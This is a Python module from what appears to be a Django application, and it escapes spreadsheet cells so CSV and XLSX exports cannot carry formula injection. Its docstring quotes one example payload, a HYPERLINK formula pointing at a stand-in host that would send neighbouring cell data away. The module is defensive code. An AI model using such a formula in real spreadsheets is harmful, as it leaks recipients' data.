"""Spreadsheet exports (CSV and XLSX): the one place where cells are made safe to open.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
spreadsheet programs as a formula (OWASP "CSV injection"): a member named
``=HYPERLINK("http://evil.example/?x="&A1,"Xq2")`` would become a live link that sends the
neighbouring cells away. Every exported text cell goes through :func:`safe_cell`, which puts a
single quote in front of such text, so it is shown as typed and never evaluated. Real numbers
(a negative amount) are left as numbers. The import reverses the quote (:func:`restore_cell`), so
an export still reads back as the same data.

Every export builds its table with :func:`safe_dataset` and writes it with :func:`render` or
:func:`render_book`, which escape any table that :func:`safe_dataset` did not build, so a table
built by other means cannot slip a formula through either.
"""
from __future__ import annotations

import datetime
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

import tablib
from django.http import HttpResponse

# The first characters that make a spreadsheet evaluate a cell (OWASP's list).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
# Control characters XML 1.0 (hence XLSX) cannot hold (openpyxl refuses them); never meant in a
# cell, they are left out of both formats, before the escaping rule looks at the first character.
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

# Values written as they are: the spreadsheet stores them as numbers, dates or booleans, never as text.
_PLAIN_TYPES = (int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


def safe_cell(value: Any) -> Any:
    """``value`` as it may be written to a spreadsheet: text that would be read as a formula gets a
    leading single quote; numbers, dates, booleans and ``None`` are returned unchanged, and anything
    else (a lazy translation, a choice) is written as its text, escaped the same way. Control
    characters other than tab, line feed and carriage return are left out."""
    if value is None or isinstance(value, _PLAIN_TYPES):
        return value
    text = _XML_ILLEGAL.sub("", str(value))
    return ESCAPE + text if _needs_escape(text) else text


def _needs_escape(text: str) -> bool:
    # Text that already starts with quotes before a trigger gets one more, so that
    # ``restore_cell`` gives back exactly what was exported (a name may start with a quote).
    return text.lstrip(ESCAPE).startswith(FORMULA_TRIGGERS)


def restore_cell(value: str) -> str:
    """The text :func:`safe_cell` escaped, as it was (used when an export is imported back)."""
    return value[1:] if value.startswith(ESCAPE) and _needs_escape(value[1:]) else value


class SafeDataset(tablib.Dataset):
    """A table whose cells have all gone through :func:`safe_cell` (made by :func:`safe_dataset`)."""


def safe_dataset(headers: Sequence[str], rows: Iterable[Sequence[Any]], *, title: str) -> SafeDataset:
    """A table whose headers and cells have all gone through :func:`safe_cell`."""
    data = SafeDataset(headers=[safe_cell(str(h)) for h in headers], title=title)
    for row in rows:
        data.append([safe_cell(cell) for cell in row])
    return data


def _ready(dataset: tablib.Dataset) -> SafeDataset:
    """``dataset`` itself when :func:`safe_dataset` made it, else an escaped copy."""
    if isinstance(dataset, SafeDataset):
        return dataset
    return safe_dataset(dataset.headers or [], dataset, title=dataset.title or "")


def render(dataset: tablib.Dataset, fmt: str) -> bytes:
    """The file of ``dataset`` in ``fmt`` (``csv``: UTF-8 with a byte-order mark, which Excel needs to
    read accents; ``xlsx``: every text cell a string cell, never a formula)."""
    if fmt == "xlsx":
        return _ready(dataset).export("xlsx")
    if fmt == "csv":
        return ("\ufeff" + _ready(dataset).export("csv")).encode("utf-8")
    raise ValueError(f"unknown export format {fmt!r}")


def render_book(datasets: Iterable[tablib.Dataset]) -> bytes:
    """Several tables in one XLSX workbook, one sheet each."""
    return tablib.Databook([_ready(d) for d in datasets]).export("xlsx")


def download(dataset: tablib.Dataset, fmt: str, name: str) -> HttpResponse:
    """``dataset`` as a file to download, ``name.fmt`` (``fmt``: ``csv`` or ``xlsx``)."""
    response = HttpResponse(render(dataset, fmt), content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = f'attachment; filename="{name}.{fmt}"'
    return response
